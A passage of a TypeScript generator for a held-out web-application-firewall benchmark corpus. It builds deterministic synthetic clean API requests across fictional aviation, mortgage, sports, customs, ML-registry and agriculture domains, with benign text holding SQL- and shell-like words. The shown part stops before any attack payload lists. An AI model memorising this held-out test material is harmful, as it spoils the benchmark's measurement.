/**
 * Held-out WAF corpus 24: realistic API traffic written blind (without reading the WAF source, its
 * docs, its tests or any other corpus file) to measure false-positive and detection rates.
 *
 * Domains (new for this corpus): a bug-bounty / vulnerability-disclosure platform, airline
 * maintenance/MRO records, a sports league management app, mortgage origination, an ML model registry
 * with LLM prompt management, customs brokerage, a stock-photography marketplace and smart agriculture
 * telemetry.
 *
 * Generation: a self-contained mulberry32 PRNG with a fixed seed drives every choice, so the output is
 * deterministic. Clean requests come from per-kind builders that mix hand-written domain content (long
 * notes, user-generated text, pasted snippets, markdown, non-Latin scripts, emoji, money, units).
 * Attacks come from per-family payload lists (30 per family) placed in JSON API bodies (nested fields,
 * arrays, keys, \u escapes, JSON inside strings, base64 fields an API would decode, GraphQL variables),
 * query strings, forms, multipart parts and headers. Attacks never use the fields listed in
 * HELDOUT24_EXCLUDE_FIELDS, which legitimately carry rich-text HTML, prompt templates or source code.
 *
 * Run directly (`node bench/waf/corpus/heldout24.ts`) to write clean-heldout24.json and
 * attacks-heldout24.json next to this file.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal ${...} strings, not templates.
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Fields that legitimately carry rich-text HTML, prompt templates or source code. */
export const HELDOUT24_EXCLUDE_FIELDS: string[] = [
  'body.report.bodyHtml',
  'body.listing.descriptionHtml',
  'body.snippet.code',
  'body.promptTemplate.text',
];

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x24c0ffee);

function int(lo: number, hi: number): number {
  return lo + Math.floor(rand() * (hi - lo + 1));
}

function pick<T>(xs: readonly T[]): T {
  const x = xs[Math.floor(rand() * xs.length)];
  if (x === undefined) throw new Error('pick from empty list');
  return x;
}

function at<T>(xs: readonly T[], i: number): T {
  const x = xs[i % xs.length];
  if (x === undefined) throw new Error('index into empty list');
  return x;
}

const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const HEX = '0123456789abcdef';

function randStr(n: number, alphabet = ALNUM): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rand() * alphabet.length)];
  return s;
}

function b64url(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64url');
}

function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}

function uuid(): string {
  return `${randStr(8, HEX)}-${randStr(4, HEX)}-4${randStr(3, HEX)}-${pick(['8', '9', 'a', 'b'])}${randStr(3, HEX)}-${randStr(12, HEX)}`;
}

function isoDate(): string {
  return `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
}

function isoTime(): string {
  return `${isoDate()}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}Z`;
}

function jwt(): string {
  const header = b64url(JSON.stringify({ alg: pick(['RS256', 'ES256']), typ: 'JWT', kid: randStr(10) }));
  const iat = 1795000000 + int(0, 9000000);
  const payload = b64url(
    JSON.stringify({
      iss: pick([
        'https://auth.gatehouse.example',
        'https://id.fieldops.example',
        'https://login.league.example',
      ]),
      sub: uuid(),
      aud: pick(['api', 'mro-api', 'registry', 'brokerage']),
      iat,
      exp: iat + 3600,
      scope: pick([
        'read write',
        'reports:write comments:write',
        'telemetry:ingest',
        'loans:read loans:write',
      ]),
    }),
  );
  return `${header}.${payload}.${randStr(43, `${ALNUM}-_`)}`;
}

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'LeagueDay/4.12.0 (Android 14; Pixel 8)',
  'MROTablet/2.3.1 (iPadOS 17.6; hangar-build 8812)',
  'okhttp/4.12.0',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'AgriGateway-Firmware/1.8.4 (esp32; lora)',
  'BrokerDesk/7.0 (Windows; .NET 8.0)',
  'Go-http-client/2.0',
];

type Req = Omit<CorpusRequest, 'id' | 'kind' | 'family' | 'technique'>;

function headers(extra: Record<string, string> = {}, auth = true): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(USER_AGENTS),
    accept: pick(['application/json', 'application/json, text/plain, */*', '*/*']),
  };
  if (auth) h.authorization = `Bearer ${jwt()}`;
  if (rand() < 0.4) h['x-request-id'] = uuid();
  if (rand() < 0.2)
    h['accept-language'] = pick(['en-GB,en;q=0.9', 'de-DE,de;q=0.8,en;q=0.5', 'ja-JP', 'pt-BR,pt;q=0.9']);
  return { ...h, ...extra };
}

function jsonReq(method: string, path: string, body: unknown, ctype = 'application/json'): Req {
  return { method, path, headers: headers({ 'content-type': ctype }), body: JSON.stringify(body) };
}

function qs(pairs: Record<string, string>): string {
  return new URLSearchParams(pairs).toString();
}

// ---------------------------------------------------------------- domain content

const PROGRAMS = ['acme-payments', 'northwind-cloud', 'skyport-airlines', 'greenfield-iot', 'openledger'];
const TAILS = ['N482QX', 'G-EZWT', 'D-AIZQ', 'VH-VXF', 'JA73NK', 'C-FTJO', 'EI-FMJ', 'PR-XBF'];
const ATA = [
  '21-51',
  '24-31',
  '27-50',
  '29-11',
  '32-41',
  '32-42',
  '34-11',
  '36-11',
  '49-10',
  '52-11',
  '71-00',
];
const PART_NUMBERS = [
  '2315M20-3',
  'C20195000',
  '066-50008-0101',
  'D23189000-7',
  '3291238-1',
  'AN960C10L',
  'MS21042L3',
];
const TEAMS = [
  'Riverside Rovers U14',
  'Eastfield Athletic',
  'St. Bride’s Hockey Club',
  'FC Kleinmachnow',
  'Olympique Sud-Est',
  'Tōkyō Wanderers',
];
const PLAYERS = [
  'Aoife O’Connell',
  'Mateus Araújo',
  'Jürgen Weiß',
  'Zoë Lefèvre',
  'Kwame Mensah',
  'Sakura Tanaka',
  'Łukasz Wróbel',
  'Priya Raghunathan',
  'Dmitri Sokolov',
  'Chloé N’Diaye',
];
const HS_CODES = [
  '7318.15.8066',
  '8471.30.0100',
  '6109.10.0012',
  '0901.21.0035',
  '8517.62.0090',
  '3926.90.9985',
  '9403.60.8081',
];
const MODELS = [
  'crop-yield-xgb',
  'defect-classifier-vit',
  'support-summarizer',
  'invoice-hs-tagger',
  'photo-keyworder-clip',
];
const FIELDS = ['north-paddock-3', 'vineyard-block-B7', 'greenhouse-2', 'pivot-14', 'orchard-east'];
const EMAILS = [
  'j.okafor@lenderco.example',
  'maintenance.ops@skyport.example',
  'coach.silva@rovers.example',
  'research+h1@proton.example',
  'broker-desk@customsco.example',
];

const PROSE = [
  'Customer called twice about the closing date — they’d like to move it to Friday 14 Nov if the appraisal lands in time. Rate lock expires 11/21.',
  'Select the “Union” option from the drop-down when you file the referee report; the old table of clubs was dropped last season.',
  'Bitte prüfen Sie die Hydraulikleitung am linken Hauptfahrwerk, Leckage ca. 3 Tropfen/min bei 3000 psi. Teil bestellt (P/N 2315M20-3).',
  'Les capteurs d’humidité du bloc B7 indiquent 18 % — l’irrigation goutte-à-goutte a été relancée à 05h30 pour 45 min.',
  '圃場3の土壌水分が閾値を下回りました。午前5時に灌漑を開始してください。🌱',
  'El árbitro expulsó al número 8 en el minuto 71 por doble amarilla; el entrenador protestó pero sin incidentes.',
  'Thanks for the report! We were able to reproduce this on staging — it looks like the export endpoint doesn’t check the org id. Bumping to High and awarding $1,500.',
  'Duplicate of #18822 — the same IDOR was reported on 2026-03-02. Closing as duplicate, but thanks for the detailed write-up 🙏',
  'Photo taken at golden hour in Lofoten, Norway. Fishing cabins (rorbuer) reflected in calm water, snow-capped peaks behind. No people, no logos.',
  'Borrower’s employer letter says “base salary $96,500/yr + 10% bonus”; underwriter wants two years of W-2s & the most recent paystub.',
  'Кабель датчика температуры повреждён грызунами, замена запланирована на четверг.',
  'يرجى إرفاق الفاتورة التجارية وشهادة المنشأ قبل تقديم البيان الجمركي.',
  'कृपया अगले मैच के लिए रेफरी की रिपोर्ट शुक्रवार तक जमा करें।',
  '선수 명단에 골키퍼 두 명이 누락되었습니다. 확인 부탁드립니다.',
  'Kill switch on pump #2 tripped again at 02:14 — probably the float sensor. Ran a manual cycle & it’s fine now; will echo this to the vendor.',
  'The model card says “not for medical use” but the eval set includes some clinical notes — can we drop those rows and re-run? cc @mlops',
  'Shipment of 1,200 pcs stainless M8 bolts (HS 7318.15) — invoice says CIF Rotterdam €4.312,50; packing list says 1,250 pcs. Please reconcile.',
  'Wheel & brake assy changed IAW AMM 32-42-27, torque 150–170 in-lb, ops check good. Signed off by J. Park (lic. #A&P 3374912).',
  'Kinda weird: the mobile app shows the fixture at 15:00 but the web shows 16:00. Daylight saving? 🤔',
  'Sehr geehrte Damen und Herren, anbei die korrigierte Handelsrechnung. Mit freundlichen Grüßen, Frau Müller',
  'O atleta sofreu uma lesão no tornozelo e ficará fora por 3 semanas. Favor atualizar a escalação.',
  'We’re going to script the nightly export; just make sure the cron doesn’t overlap with the 1am backup window.',
  'Quote: "If it isn’t written down, it didn’t happen." — every QA inspector, ever.',
  'Note for underwriting: gift letter from the borrower’s mother ($25,000) — funds seasoned 60+ days; see bank stmt p. 3.',
  'Zdjęcie przedstawia kombajn na polu pszenicy w Wielkopolsce, sierpień 2025. Model release nie jest wymagany.',
  'Prompt v7 hallucinated an HS code for “drone spare parts”; v8 adds a refusal when confidence < 0.6. Diff looks good to me 👍',
  'Can someone update the kit colours? Home: navy/white, away: all-orange. Also — we need 2 more ball boys for Saturday.',
  'Drain the line, then select mode “AUTO” and delete the old schedule from the controller before uploading the new one.',
  'Türkiye’den gelen sevkiyat için menşe şahadetnamesi eksik; gümrük müşaviri bilgilendirildi.',
  'Researcher says the fix is incomplete: adding a trailing slash to the path still returns the other tenant’s invoice. Re-opening.',
];

const SHORT_NOTES = [
  'ok',
  'See attached.',
  'Rescheduled due to rain ☔',
  'Torque verified, safety-wired.',
  'N/A',
  'Please call me back on +44 20 7946 0958',
  'Reviewed — LGTM',
  'Awaiting COO from supplier',
  '50% off promo ends 31/12',
  'Batch #7 — 10 × 5 L containers',
];

function prose(): string {
  return pick(PROSE);
}

// ---------------------------------------------------------------- clean builders

function cleanRestGet(): Req {
  const builders: (() => string)[] = [
    () =>
      `/api/v2/programs/${pick(PROGRAMS)}/reports?${qs({ state: pick(['new', 'triaged', 'resolved', 'duplicate']), severity: pick(['low', 'medium', 'high', 'critical']), sort: '-created_at', 'page[number]': String(int(1, 9)), 'page[size]': '25' })}`,
    () =>
      `/mro/v1/work-orders?${qs({ tail: pick(TAILS), status: pick(['open', 'deferred', 'closed']), ata: pick(ATA), due_before: isoDate() })}`,
    () =>
      `/mro/v1/aircraft/${pick(TAILS)}/defects?${qs({ mel_category: pick(['A', 'B', 'C', 'D']), include: 'parts,signoffs', limit: '50' })}`,
    () =>
      `/league/api/fixtures?${qs({ season: '2026-27', division: pick(['U14 Girls', 'U16 Boys', 'Senior Men Div 2', 'Veterans 40+']), venue_id: String(int(100, 999)), from: isoDate() })}`,
    () =>
      `/league/api/teams/${int(1000, 9999)}/roster?${qs({ status: 'active', fields: 'name,number,position,dob' })}`,
    () =>
      `/mortgage/v1/applications/${uuid()}/conditions?${qs({ status: pick(['outstanding', 'cleared', 'waived']), category: pick(['PTD', 'PTF', 'PTC']) })}`,
    () =>
      `/mortgage/v1/pipeline?${qs({ loan_officer: pick(EMAILS), stage: 'underwriting', min_amount: '250000', currency: 'USD' })}`,
    () =>
      `/registry/api/models/${pick(MODELS)}/versions?${qs({ stage: pick(['Staging', 'Production', 'Archived']), include: 'metrics,lineage', order_by: 'created_at desc' })}`,
    () =>
      `/registry/api/prompts/${pick(['triage-summary', 'hs-classifier', 'caption-writer'])}/versions/${int(1, 40)}?render=false`,
    () =>
      `/customs/v1/entries?${qs({ port: pick(['2704', '1001', '5301']), entry_type: '01', filed_from: isoDate(), importer: `IOR-${int(10000, 99999)}` })}`,
    () =>
      `/photos/api/assets?${qs({ license: pick(['royalty-free', 'editorial', 'rights-managed']), orientation: pick(['landscape', 'portrait', 'square']), min_width: '3000', color: '#1e90ff' })}`,
    () =>
      `/agri/v1/fields/${pick(FIELDS)}/readings?${qs({ sensor: pick(['soil_moisture', 'leaf_wetness', 'air_temp', 'ec']), from: isoTime(), to: isoTime(), agg: pick(['5m', '15m', '1h']) })}`,
    () =>
      `/agri/v1/alerts?${qs({ severity: 'warning,critical', acknowledged: 'false', tz: 'Europe/Madrid' })}`,
  ];
  return { method: 'GET', path: pick(builders)(), headers: headers(), body: '' };
}

function cleanRestWrite(): Req {
  const builders: (() => Req)[] = [
    () =>
      jsonReq('POST', '/mro/v1/work-orders', {
        tail: pick(TAILS),
        ata: pick(ATA),
        title: 'L/H MLG brake wear pin at limit',
        defect: {
          reportedBy: 'Capt. R. Haddad',
          phase: 'post-flight',
          description: prose(),
          melRef: 'MEL 32-42-01 (C)',
        },
        parts: [
          { pn: pick(PART_NUMBERS), qty: int(1, 4), serial: `SN${int(100000, 999999)}`, condition: 'NE' },
        ],
        labourHours: Number((rand() * 6).toFixed(1)),
        due: isoTime(),
      }),
    () =>
      jsonReq('PUT', `/league/api/matches/${int(10000, 99999)}/referee-report`, {
        referee: pick(PLAYERS),
        score: { home: int(0, 5), away: int(0, 5) },
        cautions: [{ player: pick(PLAYERS), minute: int(1, 90), reason: 'Unsporting behaviour' }],
        dismissals: [],
        pitchCondition: pick(['good', 'heavy', 'waterlogged in the north-east corner']),
        comments: prose(),
      }),
    () =>
      jsonReq('POST', '/mortgage/v1/applications', {
        borrowers: [
          {
            firstName: pick(['Siobhán', 'Marcus', 'Ana', 'Wei']),
            lastName: pick(['O’Brien', 'Johnson-Smith', 'García', 'Zhang']),
            email: pick(EMAILS),
            income: { base: int(40000, 250000), bonus: int(0, 30000), currency: 'USD' },
          },
        ],
        property: {
          address: '1428 Elm St, Apt #4B, Springfield, IL 62704',
          type: 'condo',
          value: int(200000, 900000),
        },
        loan: { amount: int(150000, 700000), termMonths: pick([180, 360]), product: '30yr fixed', ltv: 0.8 },
        declarations: { bankruptcy: false, foreclosure: false, note: pick(SHORT_NOTES) },
      }),
    () =>
      jsonReq('POST', `/api/v2/reports/${int(10000, 99999)}/comments`, {
        body: prose(),
        internal: rand() < 0.5,
        attachments: [],
        mentions: ['@triage-team'],
      }),
    () =>
      jsonReq('POST', '/registry/api/models/versions', {
        model: pick(MODELS),
        version: `${int(1, 4)}.${int(0, 20)}.${int(0, 9)}`,
        artifactUri: `s3://ml-artifacts-prod/${pick(MODELS)}/${randStr(12, HEX)}/model.safetensors`,
        metrics: {
          f1: Number(rand().toFixed(4)),
          auc: Number(rand().toFixed(4)),
          latency_p95_ms: int(20, 400),
        },
        tags: { framework: 'pytorch-2.5', dataset: 'v2026-10', owner: 'ml-platform' },
        description: prose(),
      }),
    () =>
      jsonReq('POST', '/customs/v1/declarations', {
        importer: { name: 'Nordhafen Handels GmbH', eori: `DE${int(100000000, 999999999)}` },
        invoice: {
          number: `INV-2026-${int(1000, 9999)}`,
          currency: 'EUR',
          total: '4312.50',
          incoterm: 'CIF Rotterdam',
        },
        lines: [
          {
            hs: pick(HS_CODES),
            description: 'Stainless steel hex bolts M8×40, A2-70',
            qty: 1200,
            unit: 'pcs',
            origin: 'TW',
          },
          {
            hs: pick(HS_CODES),
            description: 'Nylon washers 8 mm (bag of 100)',
            qty: 12,
            unit: 'bag',
            origin: 'CN',
          },
        ],
        remarks: prose(),
      }),
    () =>
      jsonReq('POST', '/photos/api/licenses', {
        assetId: `ph_${randStr(10)}`,
        license: 'extended',
        usage: { medium: 'print', runSize: 50000, territory: 'worldwide', term: 'perpetual' },
        price: { amount: 249.0, currency: 'USD' },
        buyer: { company: 'Smith & Sons Ltd.', email: pick(EMAILS) },
      }),
    () =>
      jsonReq('PUT', `/agri/v1/fields/${pick(FIELDS)}/irrigation-schedule`, {
        timezone: 'Europe/Madrid',
        zones: [
          { zone: 'A', start: '05:30', durationMin: 45, flowLpm: 120, days: ['mon', 'wed', 'fri'] },
          { zone: 'B', start: '06:20', durationMin: 30, flowLpm: 80, days: ['tue', 'thu', 'sat'] },
        ],
        skipIfRainMm: 4.5,
        note: prose(),
      }),
  ];
  return pick(builders)();
}

function cleanMergePatch(): Req {
  const ct = 'application/merge-patch+json';
  const builders: (() => Req)[] = [
    () =>
      jsonReq(
        'PATCH',
        `/mro/v1/work-orders/WO-${int(100000, 999999)}`,
        { status: 'closed', deferral: null, closingNote: prose() },
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/league/api/players/${int(1000, 9999)}`,
        { number: int(1, 99), position: 'RB', nickname: null, medical: { cleared: true } },
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/mortgage/v1/applications/${uuid()}`,
        { loan: { amount: int(150000, 700000), rateLock: { expires: isoDate() } }, coBorrower: null },
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/photos/api/assets/ph_${randStr(10)}`,
        {
          title: 'Cabins at dusk, Reine',
          keywords: ['lofoten', 'norway', 'rorbu', 'fjord'],
          exif: { iso: 200 },
        },
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/agri/v1/sensors/${randStr(12, HEX)}`,
        { calibration: { offset: -0.8, slope: 1.02 }, label: 'Soil probe 30 cm – row 12', battery: null },
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/registry/api/models/${pick(MODELS)}`,
        { stage: 'Production', description: prose(), deprecatedAliases: null },
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/api/v2/reports/${int(10000, 99999)}`,
        {
          severity: { rating: 'high', cvss: '7.5' },
          state: 'triaged',
          bounty: { amount: 1500, currency: 'USD' },
        },
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/customs/v1/declarations/${uuid()}`,
        { broker: { reference: `BRK-${int(1000, 9999)}` }, remarks: prose() },
        ct,
      ),
  ];
  return pick(builders)();
}

function cleanJsonPatch(): Req {
  const ct = 'application/json-patch+json';
  const builders: (() => Req)[] = [
    () =>
      jsonReq(
        'PATCH',
        `/mortgage/v1/applications/${uuid()}/conditions`,
        [
          { op: 'replace', path: `/conditions/${int(0, 12)}/status`, value: 'cleared' },
          { op: 'add', path: `/conditions/${int(0, 12)}/notes/-`, value: prose() },
        ],
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/league/api/teams/${int(1000, 9999)}/roster`,
        [
          {
            op: 'add',
            path: '/players/-',
            value: { name: pick(PLAYERS), number: int(1, 99), position: 'GK' },
          },
          { op: 'remove', path: `/players/${int(0, 20)}` },
        ],
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/mro/v1/work-orders/WO-${int(100000, 999999)}`,
        [
          { op: 'test', path: '/status', value: 'open' },
          { op: 'replace', path: '/status', value: 'in-progress' },
          {
            op: 'add',
            path: '/tasks/-',
            value: { ata: pick(ATA), text: 'Inspect actuator rod end for play', mechanic: 'T. Nguyen' },
          },
        ],
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/registry/api/prompts/hs-classifier`,
        [
          { op: 'replace', path: '/defaults/temperature', value: 0.2 },
          { op: 'copy', from: '/versions/7', path: '/versions/8' },
          { op: 'replace', path: '/labels/production', value: 8 },
        ],
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/photos/api/assets/ph_${randStr(10)}`,
        [
          {
            op: 'add',
            path: '/keywords/-',
            value: pick(['aurora borealis', 'harvest', 'bolts & nuts', 'stadium floodlights']),
          },
          { op: 'move', from: '/collections/0', path: '/collections/2' },
        ],
        ct,
      ),
    () =>
      jsonReq(
        'PATCH',
        `/agri/v1/fields/${pick(FIELDS)}`,
        [
          { op: 'replace', path: '/thresholds/soil_moisture/min', value: 22 },
          { op: 'replace', path: '/crop', value: 'Tempranillo (vitis vinifera)' },
        ],
        ct,
      ),
  ];
  return pick(builders)();
}

function cleanJsonApi(): Req {
  const ct = 'application/vnd.api+json';
  const builders: (() => Req)[] = [
    () => ({
      method: 'GET',
      path: `/jsonapi/reports?${qs({ 'filter[program]': pick(PROGRAMS), 'filter[state]': 'triaged', include: 'reporter,weakness', 'fields[reports]': 'title,severity,bounty', sort: '-disclosed_at' })}`,
      headers: headers({ accept: ct }),
      body: '',
    }),
    () => ({
      method: 'GET',
      path: `/jsonapi/fixtures?${qs({ 'filter[season]': '2026-27', 'filter[team]': String(int(1000, 9999)), include: 'venue,referee', 'page[limit]': '20' })}`,
      headers: headers({ accept: ct }),
      body: '',
    }),
    () => {
      const r = jsonReq(
        'POST',
        '/jsonapi/defects',
        {
          data: {
            type: 'defects',
            attributes: { ata: pick(ATA), description: prose(), discoveredAt: isoTime(), deferred: false },
            relationships: { aircraft: { data: { type: 'aircraft', id: pick(TAILS) } } },
          },
        },
        ct,
      );
      return { ...r, headers: { ...r.headers, accept: ct } };
    },
    () =>
      jsonReq(
        'PATCH',
        `/jsonapi/assets/ph_${randStr(10)}`,
        {
          data: {
            type: 'assets',
            id: `ph_${randStr(10)}`,
            attributes: {
              caption: prose(),
              keywords: ['vineyard', 'spain', 'harvest', 'grapes'],
              modelRelease: true,
            },
          },
        },
        ct,
      ),
    () =>
      jsonReq(
        'POST',
        '/jsonapi/underwriting-conditions',
        {
          data: {
            type: 'underwriting-conditions',
            attributes: {
              code: `PTD-${int(100, 999)}`,
              text: 'Provide 2 months of bank statements (all pages) for acct ending 4821',
              dueDate: isoDate(),
            },
            relationships: { application: { data: { type: 'applications', id: uuid() } } },
          },
        },
        ct,
      ),
  ];
  return pick(builders)();
}

const GQL_OPS: { name: string; query: string; vars: () => Record<string, unknown> }[] = [
  {
    name: 'ReportTimeline',
    query:
      'query ReportTimeline($id: ID!, $first: Int) { report(id: $id) { id title state severity { rating } activities(first: $first) { edges { node { ... on Comment { body author { username } } } } } } }',
    vars: () => ({ id: `rep_${int(10000, 99999)}`, first: 20 }),
  },
  {
    name: 'UpsertFixture',
    query:
      'mutation UpsertFixture($input: FixtureInput!) { upsertFixture(input: $input) { fixture { id kickoff venue { name } } errors { field message } } }',
    vars: () => ({
      input: {
        home: pick(TEAMS),
        away: pick(TEAMS),
        kickoff: isoTime(),
        venue: 'Memorial Park, Pitch 2',
        notes: prose(),
      },
    }),
  },
  {
    name: 'ClassifyLine',
    query:
      'mutation ClassifyLine($text: String!, $country: String) { classify(text: $text, country: $country) { hsCode confidence rationale } }',
    vars: () => ({ text: 'Women’s cotton T-shirts, knitted, 100% cotton, printed logo', country: 'US' }),
  },
  {
    name: 'FieldDashboard',
    query:
      'query FieldDashboard($field: String!, $since: DateTime!) { field(slug: $field) { name readings(since: $since, sensor: SOIL_MOISTURE) { ts value unit } alerts { level message } } }',
    vars: () => ({ field: pick(FIELDS), since: isoTime() }),
  },
  {
    name: 'SearchPhotos',
    query:
      'query SearchPhotos($q: String!, $filters: PhotoFilter) { photos(query: $q, filters: $filters, first: 40) { nodes { id caption thumbUrl } } }',
    vars: () => ({
      q: pick([
        'drop of water macro',
        'union jack bunting',
        'select focus portrait',
        'old script calligraphy',
      ]),
      filters: { orientation: 'landscape', safeSearch: true },
    }),
  },
];

function cleanGraphql(): Req {
  const op = pick(GQL_OPS);
  if (rand() < 0.35) {
    const path = `/graphql?${qs({
      operationName: op.name,
      variables: JSON.stringify(op.vars()),
      extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: randStr(64, HEX) } }),
    })}`;
    return { method: 'GET', path, headers: headers(), body: '' };
  }
  return jsonReq('POST', '/graphql', { operationName: op.name, query: op.query, variables: op.vars() });
}

function formReq(path: string, pairs: Record<string, string>, auth = true): Req {
  return {
    method: 'POST',
    path,
    headers: headers({ 'content-type': 'application/x-www-form-urlencoded' }, auth),
    body: qs(pairs),
  };
}

function cleanForm(): Req {
  const builders: (() => Req)[] = [
    () =>
      formReq(
        '/oauth/token',
        {
          grant_type: 'client_credentials',
          client_id: `cli_${randStr(16)}`,
          client_secret: randStr(32),
          scope: 'telemetry:ingest',
        },
        false,
      ),
    () =>
      formReq(
        '/league/register',
        {
          team_name: pick(TEAMS),
          contact_email: pick(EMAILS),
          phone: '+34 612 345 678',
          division: 'U14 Girls',
          comments: prose(),
        },
        false,
      ),
    () =>
      formReq(
        '/mortgage/prequal',
        {
          first_name: 'Ana',
          last_name: 'García-López',
          annual_income: '96,500',
          credit_score_band: '720-759',
          zip: '62704',
          message: prose(),
        },
        false,
      ),
    () =>
      formReq(
        '/disclose/submit',
        {
          product: 'Skyport mobile app 5.2',
          summary: 'Password reset token does not expire after use',
          contact: pick(EMAILS),
          pgp_fingerprint: `${randStr(40, HEX).toUpperCase()}`,
        },
        false,
      ),
    () =>
      formReq('/photos/contact-photographer', {
        name: 'Ólafur Jónsson',
        email: pick(EMAILS),
        subject: 'Licensing question – editorial use',
        message: prose(),
      }),
    () =>
      formReq('/customs/quote-request', {
        company: 'Smith & Sons Ltd.',
        hs_code: pick(HS_CODES),
        goods: 'Espresso machines (commercial), 12 units',
        value_usd: '18400.00',
        notes: pick(SHORT_NOTES),
      }),
  ];
  return pick(builders)();
}

function multipartReq(
  path: string,
  fields: Record<string, string>,
  file: { name: string; field: string; type: string; content: string },
): Req {
  const boundary = `----WebKitFormBoundary${randStr(16)}`;
  let body = '';
  for (const [k, v] of Object.entries(fields)) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
  }
  body += `--${boundary}\r\nContent-Disposition: form-data; name="${file.field}"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n${file.content}\r\n--${boundary}--\r\n`;
  return {
    method: 'POST',
    path,
    headers: headers({ 'content-type': `multipart/form-data; boundary=${boundary}` }),
    body,
  };
}

function cleanMultipart(): Req {
  const builders: (() => Req)[] = [
    () =>
      multipartReq(
        '/agri/v1/imports',
        { field: pick(FIELDS), format: 'csv', timezone: 'UTC' },
        {
          name: `export_${isoDate()}.csv`,
          field: 'file',
          type: 'text/csv',
          content: `ts,sensor,value,unit\n${isoTime()},soil_moisture,21.4,%\n${isoTime()},air_temp,17.9,°C\n${isoTime()},ec,1.32,mS/cm\n`,
        },
      ),
    () =>
      multipartReq(
        `/mortgage/v1/applications/${uuid()}/documents`,
        { docType: 'bank-statement', period: '2026-09', borrower: '1' },
        {
          name: 'Statement Sept 2026 (Chase).pdf',
          field: 'document',
          type: 'application/pdf',
          content:
            '%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF',
        },
      ),
    () =>
      multipartReq(
        '/photos/api/uploads',
        {
          title: 'Combine harvester at sunset',
          keywords: 'harvest, wheat, agriculture, golden hour',
          license: 'royalty-free',
        },
        {
          name: 'DSC_4821.jpg',
          field: 'image',
          type: 'image/jpeg',
          content:
            'ÿØÿà\u0000\u0010JFIF\u0000\u0001\u0001\u0000\u0000\u0001\u0000\u0001\u0000\u0000ÿá Exif Make=NIKON CORPORATION Model=NIKON Z 8 FNumber=8 ISO=100',
        },
      ),
    () =>
      multipartReq(
        `/api/v2/reports/${int(10000, 99999)}/attachments`,
        { caption: 'Screen recording of the repro (Firefox 133)' },
        {
          name: 'repro-steps.txt',
          field: 'attachment',
          type: 'text/plain',
          content:
            '1. Log in as user A\n2. Open Settings → Billing\n3. Change the invoice id in the URL to one belonging to org B\n4. Observe org B’s invoice is shown',
        },
      ),
    () =>
      multipartReq(
        `/mro/v1/work-orders/WO-${int(100000, 999999)}/evidence`,
        { caption: 'Borescope image HPT stage 1', ata: '72-00' },
        {
          name: 'borescope_hpt1.png',
          field: 'file',
          type: 'image/png',
          content:
            '\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\u0000\u0000\u0002\u0080\u0000\u0000\u0001\u00e0',
        },
      ),
    () =>
      multipartReq(
        '/customs/v1/invoices/ocr',
        { entry: `ENT-${int(100000, 999999)}`, language: 'de' },
        {
          name: 'Handelsrechnung_2026-11.xml',
          field: 'invoice',
          type: 'application/xml',
          content:
            '<?xml version="1.0" encoding="UTF-8"?>\n<Invoice><Seller>Nordhafen Handels GmbH</Seller><Total currency="EUR">4312.50</Total></Invoice>',
        },
      ),
  ];
  return pick(builders)();
}

function cleanNdjson(): Req {
  const lines: string[] = [];
  const kind = int(0, 2);
  const n = int(3, 8);
  for (let i = 0; i < n; i++) {
    if (kind === 0) {
      lines.push(
        JSON.stringify({
          device: `lora-${randStr(8, HEX)}`,
          ts: isoTime(),
          soil_moisture: Number((rand() * 40).toFixed(1)),
          temp_c: Number((rand() * 35).toFixed(1)),
          rssi: -int(60, 120),
          battery_v: 3.61,
        }),
      );
    } else if (kind === 1) {
      lines.push(
        JSON.stringify({
          event: pick(['goal', 'substitution', 'yellow_card', 'kickoff']),
          matchId: int(10000, 99999),
          minute: int(1, 90),
          player: pick(PLAYERS),
          team: pick(TEAMS),
        }),
      );
    } else {
      lines.push(
        JSON.stringify({
          run: `eval-${randStr(6, HEX)}`,
          sample: i,
